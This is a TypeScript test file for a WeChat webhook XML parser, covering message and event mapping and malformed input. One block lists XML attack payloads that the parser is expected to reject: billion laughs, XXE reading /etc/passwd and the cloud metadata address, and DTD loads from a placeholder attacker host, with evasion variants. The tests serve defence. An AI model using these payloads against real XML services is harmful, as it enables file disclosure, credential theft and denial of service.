import { describe, expect, it } from 'vitest';
import { accountId } from '../../src/core/messages.ts';
import { buildMessageXml, parseWechatXml, toInbound, XmlError } from '../../src/channels/wechat/xml.ts';

const ACCOUNT = accountId('default');
const OPENID = 'oyORnuP8q7ou2gfYjqLzSIWZf0rs';
const BASE = { ToUserName: 'gh_10f6c3c3ac5a', FromUserName: OPENID, CreateTime: 1409735668 };

/** Plays the WeChat server: builds the XML, parses it and maps it, as the webhook does. */
async function deliver(fields: Record<string, string | number>) {
  return toInbound(await parseWechatXml(buildMessageXml({ ...BASE, ...fields })), ACCOUNT);
}

async function codeOf(work: () => Promise<unknown>): Promise<string> {
  try {
    await work();
  } catch (err) {
    expect(err).toBeInstanceOf(XmlError);
    return (err as XmlError).code;
  }
  throw new Error('expected an XmlError');
}

/** The platform's own layout: bare numbers, newlines between elements. */
const PLATFORM_TEXT = `<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
<FromUserName><![CDATA[${OPENID}]]></FromUserName>
<CreateTime>1409735668</CreateTime>
<MsgType><![CDATA[text]]></MsgType>
<Content><![CDATA[abcdteT]]></Content>
<MsgId>6054768590064713728</MsgId>
</xml>`;

describe('parseWechatXml', () => {
  it('parses the platform layout into field → string', async () => {
    expect(await parseWechatXml(PLATFORM_TEXT)).toEqual({
      ToUserName: 'gh_10f6c3c3ac5a',
      FromUserName: OPENID,
      CreateTime: '1409735668',
      MsgType: 'text',
      Content: 'abcdteT',
      MsgId: '6054768590064713728',
    });
  });

  it('keeps a 64-bit MsgId an exact string', async () => {
    const fields = await parseWechatXml(buildMessageXml({ MsgId: '9223372036854775807' }));
    expect(fields['MsgId']).toBe('9223372036854775807');
    expect(String(Number(fields['MsgId']))).not.toBe('9223372036854775807'); // what going through Number would do
  });

  it('trims surrounding whitespace of values', async () => {
    expect(await parseWechatXml('<xml>\n  <Content><![CDATA[  hi  ]]></Content>\n</xml>')).toEqual({ Content: 'hi' });
  });

  it('parses an empty <xml/> document as no fields', async () => {
    expect(await parseWechatXml('<xml></xml>')).toEqual({});
  });

  it('accepts a prolog and comments', async () => {
    expect(await parseWechatXml('\uFEFF<?xml version="1.0" encoding="utf-8"?><!-- hi --><xml><A>1</A></xml>\n')).toEqual({ A: '1' });
  });

  it('accepts a <!DOCTYPE text a follower typed inside CDATA', async () => {
    const fields = await parseWechatXml(buildMessageXml({ Content: '<!DOCTYPE html><!ENTITY x "y">' }));
    expect(fields['Content']).toBe('<!DOCTYPE html><!ENTITY x "y">');
  });

  it('skips nested fields the protocol does not define as text', async () => {
    const xml =
      '<xml><MsgType>event</MsgType><CopyrightCheckResult><Count>2</Count><ResultList><item><ArticleIdx>1</ArticleIdx></item></ResultList></CopyrightCheckResult></xml>';
    expect(await parseWechatXml(xml)).toEqual({ MsgType: 'event' });
  });
});

describe('parseWechatXml: DTD and entity declarations are rejected before parsing', () => {
  const payloads: Record<string, string> = {
    'billion laughs': `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>`,
    'external entity (file)': `<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>`,
    'external entity (http)': `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><xml><Content>&xxe;</Content></xml>`,
    'parameter entity': `<!DOCTYPE xml [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><xml></xml>`,
    'external DTD only': `<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml></xml>`,
    'lowercase doctype': `<!doctype xml [<!entity a "b">]><xml><A>&a;</A></xml>`,
    'mixed case': `<!DocType xml><xml></xml>`,
    'space after <!': `<! DOCTYPE xml><xml></xml>`,
    'newline and tab after <!': `<!\n\tDOCTYPE xml><xml></xml>`,
    'entity declaration alone': `<xml><!ENTITY a "b"><A>1</A></xml>`,
    'doctype after a comment': `<!-- --><!DOCTYPE xml><xml></xml>`,
    'doctype after a comment mentioning CDATA': `<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY a "b">]><xml><A>]]></A></xml>`,
    'doctype after a processing instruction mentioning CDATA': `<?pi <![CDATA[ ?><!DOCTYPE xml [<!ENTITY a "]]>">]><xml></xml>`,
    'doctype after a BOM': `\uFEFF<!DOCTYPE xml><xml></xml>`,
  };
  it.each(Object.entries(payloads))('rejects %s', async (_name, xml) => {
    expect(await codeOf(() => parseWechatXml(xml))).toBe('dtd');
  });
});

describe('parseWechatXml: malformed documents', () => {
  const documents: Record<string, string> = {
    'an empty body': '',
    'plain text': 'hello',
    'JSON': '{"MsgType":"text"}',
    'an unclosed root': '<xml><A>1</A>',
    'mismatched tags': '<xml><A>1</B></xml>',
    'another root element': '<root><A>1</A></root>',
    'two root elements': '<xml><A>1</A></xml><xml><A>2</A></xml>',
    'text directly inside <xml>': '<xml><A>1</A>loose text</xml>',
    'an undefined entity': '<xml><A>&lol;</A></xml>',
    'an unterminated CDATA section': '<xml><A><![CDATA[abc</A></xml>',
    'a nested text field': '<xml><FromUserName><a>1</a></FromUserName></xml>',
    'a repeated text field': '<xml><Content>1</Content><Content>2</Content></xml>',
  };
  it.each(Object.entries(documents))('rejects %s', async (_name, xml) => {
    expect(await codeOf(() => parseWechatXml(xml))).toBe('malformed');
  });
});

describe('toInbound: messages', () => {
  const meta = { channel: 'wechat', account: ACCOUNT, user: OPENID, createdAt: 1409735668 };

  it('maps text', async () => {
    expect(await deliver({ MsgType: 'text', Content: '你好', MsgId: '6054768590064713728' })).toEqual({
      ...meta,
      dedupKey: `6054768590064713728:${OPENID}`,
      kind: 'text',
      msgId: '6054768590064713728',
      text: '你好',
      viaVoice: false,
    });
  });

  it('maps the platform text layout with a bare MsgId exactly', async () => {
    const inbound = toInbound(await parseWechatXml(PLATFORM_TEXT), ACCOUNT);
    expect(inbound).toMatchObject({ kind: 'text', text: 'abcdteT', msgId: '6054768590064713728', dedupKey: `6054768590064713728:${OPENID}` });
  });

  it('maps image', async () => {
    expect(await deliver({ MsgType: 'image', PicUrl: 'http://mmbiz/x.jpg', MediaId: 'm1', MsgId: '1' })).toEqual({
      ...meta,
      dedupKey: `1:${OPENID}`,
      kind: 'image',
      msgId: '1',
      picUrl: 'http://mmbiz/x.jpg',
      mediaId: 'm1',
    });
  });

  it('maps voice with a non-empty Recognition to text via voice', async () => {
    expect(await deliver({ MsgType: 'voice', MediaId: 'm1', Format: 'amr', Recognition: '我要买咖啡', MsgId: '2' })).toEqual({
      ...meta,
      dedupKey: `2:${OPENID}`,
      kind: 'text',
      msgId: '2',
      text: '我要买咖啡',
      viaVoice: true,
    });
  });

  it('maps voice without Recognition to voice', async () => {
    expect(await deliver({ MsgType: 'voice', MediaId: 'm1', Format: 'amr', MsgId: '3' })).toEqual({
      ...meta,
      dedupKey: `3:${OPENID}`,
      kind: 'voice',
      msgId: '3',
      mediaId: 'm1',
      format: 'amr',
    });
  });

  it('maps voice with an empty or blank Recognition to voice', async () => {
    expect(await deliver({ MsgType: 'voice', MediaId: 'm1', Format: 'amr', Recognition: '', MsgId: '3' })).toMatchObject({ kind: 'voice' });
    expect(await deliver({ MsgType: 'voice', MediaId: 'm1', Format: 'amr', Recognition: ' \n ', MsgId: '3' })).toMatchObject({ kind: 'voice' });
  });

  it('maps video', async () => {
    expect(await deliver({ MsgType: 'video', MediaId: 'm1', ThumbMediaId: 't1', MsgId: '4' })).toEqual({
      ...meta,
      dedupKey: `4:${OPENID}`,
      kind: 'video',
      msgId: '4',
      mediaId: 'm1',
      thumbMediaId: 't1',
      short: false,
    });
  });

  it('maps shortvideo to video with the short flag', async () => {
    expect(await deliver({ MsgType: 'shortvideo', MediaId: 'm1', ThumbMediaId: 't1', MsgId: '5' })).toMatchObject({
      kind: 'video',
      short: true,
    });
  });

  it('maps a location message (Location_X is the latitude)', async () => {
    expect(
      await deliver({ MsgType: 'location', Location_X: '23.134521', Location_Y: '113.358803', Scale: '20', Label: '广州市天河区', MsgId: '6' }),
    ).toEqual({
      ...meta,
      dedupKey: `6:${OPENID}`,
      kind: 'location',
      msgId: '6',
      lat: 23.134521,
      lng: 113.358803,
      scale: 20,
      label: '广州市天河区',
    });
  });

  it('maps link', async () => {
    expect(await deliver({ MsgType: 'link', Title: 'T', Description: 'D', Url: 'https://example.com/a', MsgId: '7' })).toEqual({
      ...meta,
      dedupKey: `7:${OPENID}`,
      kind: 'link',
      msgId: '7',
      title: 'T',
      description: 'D',
      url: 'https://example.com/a',
    });
  });

  it('maps an unknown message type to unknown, keyed by its MsgId', async () => {
    expect(await deliver({ MsgType: 'miniprogrampage', Title: 'x', MsgId: '8' })).toEqual({
      ...meta,
      dedupKey: `8:${OPENID}`,
      kind: 'unknown',
      msgType: 'miniprogrampage',
      event: null,
    });
  });

  it('rejects a message without MsgId', async () => {
    expect(await codeOf(() => deliver({ MsgType: 'text', Content: 'hi' }))).toBe('malformed');
  });
});

describe('toInbound: events', () => {
  const meta = { channel: 'wechat', account: ACCOUNT, user: OPENID, createdAt: 1409735668 };
  const key = (event: string, eventKey = '') => `1409735668:${OPENID}:${event}:${eventKey}`;

  it('maps a plain subscribe to follow without scene', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'subscribe' })).toEqual({
      ...meta,
      dedupKey: key('subscribe'),
      kind: 'follow',
      scene: null,
      ticket: null,
    });
  });

  it('maps a subscribe with an empty EventKey to follow without scene', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'subscribe', EventKey: '' })).toMatchObject({ kind: 'follow', scene: null });
  });

  it('maps a subscribe from a parametric QR code, stripping qrscene_', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'subscribe', EventKey: 'qrscene_store_42', Ticket: 'TICKET' })).toEqual({
      ...meta,
      dedupKey: key('subscribe', 'qrscene_store_42'),
      kind: 'follow',
      scene: 'store_42',
      ticket: 'TICKET',
    });
  });

  it('maps unsubscribe to unfollow', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'unsubscribe', EventKey: '' })).toEqual({
      ...meta,
      dedupKey: key('unsubscribe'),
      kind: 'unfollow',
    });
  });

  it('maps SCAN to scan with the EventKey as is', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'SCAN', EventKey: 'store_42', Ticket: 'TICKET' })).toEqual({
      ...meta,
      dedupKey: key('SCAN', 'store_42'),
      kind: 'scan',
      scene: 'store_42',
      ticket: 'TICKET',
    });
  });

  it('maps LOCATION to a location report', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'LOCATION', Latitude: '23.137466', Longitude: '113.352425', Precision: '119.385040' })).toEqual({
      ...meta,
      dedupKey: key('LOCATION'),
      kind: 'location_report',
      lat: 23.137466,
      lng: 113.352425,
      precision: 119.38504,
    });
  });

  it('maps CLICK to menu_click', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'CLICK', EventKey: 'MENU_ORDERS' })).toEqual({
      ...meta,
      dedupKey: key('CLICK', 'MENU_ORDERS'),
      kind: 'menu_click',
      key: 'MENU_ORDERS',
    });
  });

  it('maps VIEW to menu_view', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'VIEW', EventKey: 'https://shop.example/'})).toEqual({
      ...meta,
      dedupKey: key('VIEW', 'https://shop.example/'),
      kind: 'menu_view',
      url: 'https://shop.example/',
    });
  });

  it('maps MASSSENDJOBFINISH with its MsgID in the dedup key', async () => {
    const fields = { MsgType: 'event', Event: 'MASSSENDJOBFINISH', MsgID: '1000001625', Status: 'send success' };
    expect(await deliver({ ...fields, TotalCount: 100, FilterCount: 80, SentCount: 75, ErrorCount: 5 })).toEqual({
      ...meta,
      dedupKey: `${key('MASSSENDJOBFINISH')}:1000001625`,
      kind: 'mass_send_finished',
      msgId: '1000001625',
      status: 'send success',
      totalCount: 100,
      filterCount: 80,
      sentCount: 75,
      errorCount: 5,
    });
  });

  it('maps MASSSENDJOBFINISH with nested copyright results as the platform sends it', async () => {
    const xml = `<xml><ToUserName><![CDATA[gh_x]]></ToUserName><FromUserName><![CDATA[${OPENID}]]></FromUserName>
<CreateTime>1394524295</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[MASSSENDJOBFINISH]]></Event>
<MsgID>1988</MsgID><Status><![CDATA[sendsuccess]]></Status><TotalCount>100</TotalCount><FilterCount>80</FilterCount>
<SentCount>75</SentCount><ErrorCount>5</ErrorCount><CopyrightCheckResult><Count>2</Count><ResultList><item><ArticleIdx>1</ArticleIdx></item>
<item><ArticleIdx>2</ArticleIdx></item></ResultList><CheckState>2</CheckState></CopyrightCheckResult></xml>`;
    expect(toInbound(await parseWechatXml(xml), ACCOUNT)).toMatchObject({ kind: 'mass_send_finished', msgId: '1988', sentCount: 75 });
  });

  it('accepts MsgId spelled the message way on MASSSENDJOBFINISH', async () => {
    const inbound = await deliver({ MsgType: 'event', Event: 'MASSSENDJOBFINISH', MsgId: '77', Status: 'ok', TotalCount: 1, FilterCount: 1, SentCount: 1, ErrorCount: 0 });
    expect(inbound).toMatchObject({ kind: 'mass_send_finished', msgId: '77' });
  });

  it('maps TEMPLATESENDJOBFINISH', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'TEMPLATESENDJOBFINISH', MsgID: '200163836', Status: 'success' })).toEqual({
      ...meta,
      dedupKey: `${key('TEMPLATESENDJOBFINISH')}:200163836`,
      kind: 'template_send_finished',
      msgId: '200163836',
      status: 'success',
    });
  });

  it('compares event names case-insensitively', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'Subscribe' })).toMatchObject({ kind: 'follow' });
    expect(await deliver({ MsgType: 'event', Event: 'scan', EventKey: '1' })).toMatchObject({ kind: 'scan' });
    expect(await deliver({ MsgType: 'event', Event: 'click', EventKey: 'K' })).toMatchObject({ kind: 'menu_click' });
    expect(await deliver({ MsgType: 'EVENT', Event: 'view', EventKey: 'u' })).toMatchObject({ kind: 'menu_view' });
  });

  it('maps an unknown event to unknown', async () => {
    expect(await deliver({ MsgType: 'event', Event: 'scancode_push', EventKey: 'k' })).toEqual({
      ...meta,
      dedupKey: key('scancode_push', 'k'),
      kind: 'unknown',
      msgType: 'event',
      event: 'scancode_push',
    });
  });

  it('gives retries of one event the same dedup key and different events different keys', async () => {
    const click = { MsgType: 'event', Event: 'CLICK', EventKey: 'A' };
    const first = await deliver(click);
    expect((await deliver(click)).dedupKey).toBe(first.dedupKey);
    expect((await deliver({ ...click, EventKey: 'B' })).dedupKey).not.toBe(first.dedupKey);
    expect((await deliver({ ...click, CreateTime: 1409735669 })).dedupKey).not.toBe(first.dedupKey);
  });
});

describe('toInbound: rejections', () => {
  it.each(['FromUserName', 'MsgType', 'CreateTime'])('rejects a delivery without %s', (field) => {
    const fields: Record<string, string> = { FromUserName: OPENID, MsgType: 'text', CreateTime: '1409735668', Content: 'x', MsgId: '1' };
    delete fields[field];
    expect(() => toInbound(fields, ACCOUNT)).toThrow(expect.objectContaining({ code: 'malformed' }));
  });

  it('rejects a non-numeric CreateTime', () => {
    const fields = { FromUserName: OPENID, MsgType: 'text', CreateTime: 'yesterday', Content: 'x', MsgId: '1' };
    expect(() => toInbound(fields, ACCOUNT)).toThrow(XmlError);
  });

  it.each([
    ['non-numeric latitude', { Location_X: 'north', Location_Y: '113.3' }],
    ['empty longitude', { Location_X: '23.1', Location_Y: '' }],
    ['latitude out of range', { Location_X: '123.1', Location_Y: '113.3' }],
    ['Infinity', { Location_X: 'Infinity', Location_Y: '113.3' }],
  ])('rejects a location message with %s', async (_name, coords) => {
    expect(await codeOf(() => deliver({ MsgType: 'location', ...coords, Scale: '15', Label: '', MsgId: '1' }))).toBe('malformed');
  });

  it('rejects a LOCATION event with non-numeric coordinates', async () => {
    expect(await codeOf(() => deliver({ MsgType: 'event', Event: 'LOCATION', Latitude: '0x10', Longitude: '1', Precision: '1' }))).toBe('malformed');
  });

  it('rejects MASSSENDJOBFINISH with non-numeric counts', async () => {
    const fields = { MsgType: 'event', Event: 'MASSSENDJOBFINISH', MsgID: '1', TotalCount: 'many', FilterCount: 1, SentCount: 1, ErrorCount: 0 };
    expect(await codeOf(() => deliver(fields))).toBe('malformed');
  });

  it('rejects an event without Event', async () => {
    expect(await codeOf(() => deliver({ MsgType: 'event' }))).toBe('malformed');
  });

  it('rejects an empty document', async () => {
    expect(await codeOf(async () => toInbound(await parseWechatXml('<xml></xml>'), ACCOUNT))).toBe('malformed');
  });
});
